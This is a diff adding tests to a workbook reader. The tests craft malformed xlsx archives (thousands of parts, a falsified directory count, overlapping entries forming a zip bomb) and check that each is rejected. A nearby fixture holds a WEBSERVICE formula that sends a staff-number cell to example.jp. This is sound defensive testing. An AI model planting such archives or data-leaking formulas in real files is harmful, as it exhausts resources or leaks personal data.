@@ -221,6 +221,27 @@ describe('a workbook with more in it than its table', () => {
     await expect(openTable({ name: 'file', path })).rejects.toMatchObject({ code: 'macro_xlsx' });
   });
 
+  it('is refused with thousands of parts, and with parts that its directory does not count', async () => {
+    const many = Object.fromEntries(Array.from({ length: 5_001 }, (_, n) => [`xl/media/${n}.xml`, '<a/>']));
+    await expect(readBytes(withParts(await table(), many))).rejects.toMatchObject({ code: 'too_large' });
+
+    const bytes = withParts(await table(), { 'xl/hidden.xml': '<a>123456789018</a>' });
+    const end = bytes.lastIndexOf('PK\x05\x06', undefined, 'latin1');
+    bytes.writeUInt16LE(bytes.readUInt16LE(end + 10) - 1, end + 10);
+    await expect(readBytes(bytes)).rejects.toMatchObject({ code: 'broken_xlsx' });
+  });
+
+  it('is refused where parts that lie over each other say together that they are too large', async () => {
+    const bytes = withParts(await table(), { 'xl/a.xml': 'a'.repeat(9_000), 'xl/b.xml': 'b'.repeat(9_000) });
+    // Both names lead to the same bytes: each counts.
+    const directory = bytes.readUInt32LE(bytes.lastIndexOf('PK\x05\x06', undefined, 'latin1') + 16);
+    const [a, b] = ['xl/a.xml', 'xl/b.xml'].map((name) => bytes.indexOf(name, directory) - 46);
+    bytes.writeUInt32LE(bytes.readUInt32LE(a! + 42), b! + 42);
+    await expect(readBytes(bytes, { maxUnpackedBytes: 15_000 })).rejects.toMatchObject({
+      code: 'too_large',
+    });
+  });
+
   it('is read by the values that were kept, where formulas and links to other books stand', async () => {
     const sheet = `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>
       <row r="1"><c r="A1" t="str"><f>WEBSERVICE("https://example.jp/?"&amp;A2)</f><v>職員番号</v></c>
